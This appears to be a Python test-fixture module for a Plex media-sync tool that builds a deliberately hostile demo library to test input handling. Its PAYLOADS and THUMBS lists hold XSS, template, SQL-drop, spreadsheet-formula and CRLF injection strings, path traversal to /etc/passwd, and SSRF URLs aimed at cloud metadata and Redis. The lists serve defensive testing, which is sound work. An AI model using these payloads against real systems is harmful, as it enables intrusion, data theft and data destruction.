"""A library of nothing but trouble: what real servers have sent, and what nobody should send."""

from __future__ import annotations

from collections.abc import Iterator

from plexsync.demo.library import FIRST_FILM, FIRST_SHOW, Library
from plexsync.demo.sections import Section, usual_sections
from plexsync.demo.titles import Title

# Ways to break out of a page, a query, a format, a path or a log line.
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x></script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "<style>@import '//evil.example/x';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "{{ 7*7 }}{% debug %}${7*7}#{7*7}",
    "%s%n%d%(secret)s{0.__class__}",
    "'; DROP TABLE plexsync_mediaitem; --",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<math><mtext></p><style><img title='</style><img src=x onerror=alert(1)>'>",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "=HYPERLINK('http://evil.example','x')",
    "../../../../etc/passwd",
    "line one\r\nSet-Cookie: evil=1\n\nlog: forged",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>Sign in</button>",
)
# Addresses no poster may ever be fetched from.
THUMBS = (
    "http://169.254.169.254/latest/meta-data/",
    "https://evil.example/x.jpg",
    "//evil.example/x.jpg",
    "/library/../../etc/passwd",
    "/library/metadata/1/../../../:/prefs",
    "/photo/:/transcode?url=http://127.0.0.1:6379/&width=1&height=1",
    "/library/metadata/1001/thumb/1?url=http://evil.example/",
    "/library/metadata/1001/thumb/1#@evil.example/",
    "/\\evil.example/x",
    "\\\\evil.example\\share\\x",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "@evil.example/x",
    "/library/metadata/%2e%2e/%2e%2e/accounts",
    "/library/metadata/1001/thumb/1\r\nX-Evil: 1",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript:alert(1)",
    "upload://posters/none",
    "library/metadata/1001/thumb/1",
    " /library/metadata/1001/thumb/1",
)
GENRES = 10_000
_EMOJI = "👨‍👩‍👧‍👦 Family 🎬🏳️‍🌈 💩"
_RIGHT_TO_LEFT = "\u202eexe.mivom\u202c السلام \u2067עברית\u2069"
_STACKED = "Z̸̢͎a̷̛͝l̴̤͂g̸̺̈o̵͉͘ " + "e" + "\u0301" * 200
_INVISIBLE = "\u200b\u200d\ufeff\u2060"


def hostile_library() -> Library:
    """The same at every call. Raw attributes say what a title sends in place of what is right.

    Titles whose rating key is no number cannot be asked for in full, those without one not at all.
    """
    sections = usual_sections()
    sections[1].title = "<script>alert('films')</script>"
    sections[3] = Section(3, "Music", "artist")
    sections[4] = Section(4, "Photos", "photo")
    sections[5] = Section(5, "Home videos 🎥", "movie", agent="com.plexapp.agents.none")
    sections[6] = Section(6, "", "movie", raw={"title": None, "uuid": None, "language": None})
    films = list(_films())
    shows = list(_shows())
    return Library("Hostile \u202eyrarbil", [*films, *shows], sections)


def _films() -> Iterator[Title]:
    """Every film named after its trouble, so that a failing test says what it was."""
    for number, made in enumerate([*_lacking(), *_wrong(), *_odd_text(), *_payloads(), *_thumbs()]):
        made.key = FIRST_FILM + number
        yield made


def _film(name: str, raw: dict[str, str | None] | None = None, section: int = 1) -> Title:
    return Title(
        0, "movie", name, year=1999, minutes=100, genres=("Comedy",), raw=raw, section=section
    )


def _lacking() -> Iterator[Title]:
    """Titles without what every title has."""
    for name in ("title", "year", "duration", "guid", "summary", "thumb", "addedAt", "updatedAt"):
        yield _film(f"No {name}", {name: None})
    yield _film("No type", {"type": None})
    yield _film("No rating key", {"ratingKey": None})
    yield _film("Nothing", dict.fromkeys(_EVERYTHING))
    yield _film("Empty", dict.fromkeys(_EVERYTHING, ""))
    yield _film("Home video", {"guid": "com.plexapp.agents.none://abc?lang=xn"}, section=5)
    yield _film("Local", {"guid": "local://4711"}, section=5)
    yield _film("Nameless library", section=6)


_EVERYTHING = (
    "title",
    "titleSort",
    "year",
    "duration",
    "guid",
    "summary",
    "thumb",
    "art",
    "addedAt",
    "updatedAt",
    "slug",
    "key",
)


def _wrong() -> Iterator[Title]:
    """Numbers that are none, dates that never were, keys that are no keys."""
    numbers = (
        "NaN",
        "inf",
        "-inf",
        "-1",
        "0",
        "1e308",
        "9" * 400,
        "0x7c6",
        "１９９９",
        "1,999",
        " ",
    )
    for number in numbers:
        named = ("year", "duration", "rating", "audienceRating", "userRating", "viewCount")
        yield _film(f"Number {number[:10]}", dict.fromkeys((*named, "viewOffset"), number))
    for year in ("0", "9999", "10000", "-44"):
        yield _film(f"Year {year}", {"year": year})
    for date in ("0", "-62135596801", "253402300800", "99999999999999999999", "NaN", "2020-01-01"):
        moments = ("addedAt", "updatedAt", "lastViewedAt", "lastRatedAt", "deletedAt")
        yield _film(f"Date {date}", dict.fromkeys(moments[:4], date))
    for date in ("0000-00-00", "2020-13-45", "yesterday", "9999-12-31", "1888-10-14"):
        yield _film(f"Released {date}", {"originallyAvailableAt": date})
    for key in (
        "1001",
        "1001",
        "abc",
        "../../accounts",
        "1001/../1002",
        "-5",
        "",
        "1" * 60,
        "1,2,3",
    ):
        yield _film(f"Rating key {key[:12]}", {"ratingKey": key})
    for guid in ("plex://movie/same", "plex://movie/same", "", "plex://", "x" * 5_000):
        yield _film(f"Guid {guid[:20]}", {"guid": guid})
    yield Title(0, "movie", "Ten thousand genres", genres=tuple(f"G{n}" for n in range(GENRES)))
    yield Title(0, "movie", "One genre 10,000 times", genres=("Drama",) * GENRES)
    yield Title(0, "movie", "Long people", cast=("A" * 10_000, ""), directors=("", "B" * 10_000))
    yield Title(0, "movie", "Many files", versions=40, languages=("xx", "en", "en"))


def _odd_text() -> Iterator[Title]:
    odd = {
        "Emoji": _EMOJI,
        "Right to left": _RIGHT_TO_LEFT,
        "Stacked": _STACKED,
        "Invisible": _INVISIBLE,
        "Control": "Bell\x04 and\x07 null-like\x01",
        "Long": "Very " * 20_000 + "long",
        "Space": "  \t\n ",
        "Lone quotes": "\"'<>&&amp;&lt;",
    }
    for name, words in odd.items():
        film = Title(0, "movie", words, year=1999, minutes=100, genres=(words[:300],))
        film.summary, film.cast, film.sort_title = f"{name}: {words}", (words,), name
        yield film


def _payloads() -> Iterator[Title]:
    for number, payload in enumerate(PAYLOADS):
        yield Title(
            0,
            "movie",
            payload,
            year=1950 + number,
            minutes=90,
            genres=(payload,),
            directors=(payload,),
            cast=(payload,),
            countries=(payload,),
            collections=(payload,),
            labels=(payload,),
            studio=payload,
            content_rating=payload,
            original_title=payload,
            edition=payload,
            summary=payload,
            imdb=f"tt{95_000_000 + number}",
        )


def _thumbs() -> Iterator[Title]:
    for number, thumb in enumerate(THUMBS):
        yield _film(f"Thumb {number}", {"thumb": thumb, "art": thumb})


def _shows() -> Iterator[Title]:
    key = FIRST_SHOW
    for show in (
        Title(0, "show", "No episodes", year=2001),
        Title(0, "show", "Empty seasons", year=2002, seasons=(0, 0)),
        Title(
            0, "show", "No numbers", seasons=(3,), raw_episodes={"index": None, "parentIndex": None}
        ),
        Title(
            0, "show", "Odd numbers", seasons=(3,), raw_episodes={"index": "-1", "parentIndex": "x"}
        ),
        Title(0, "show", "No titles", seasons=(2,), raw_episodes={"title": None, "duration": None}),
        Title(
            0, "show", "Lost episodes", seasons=(2,), raw_episodes={"grandparentRatingKey": None}
        ),
        Title(
            0, "show", "Foreign episodes", seasons=(2,), raw_episodes={"grandparentRatingKey": "9"}
        ),
        Title(
            0,
            "show",
            "Wrong counts",
            seasons=(2,),
            raw={"leafCount": "NaN", "viewedLeafCount": "9"},
        ),
        Title(0, "show", PAYLOADS[0], seasons=(2,), raw_episodes={"title": PAYLOADS[1]}),
        Title(0, "show", "Thousand episodes", seasons=(1_000,), minutes=20),
    ):
        show.key = key
        key += show.block
        yield show
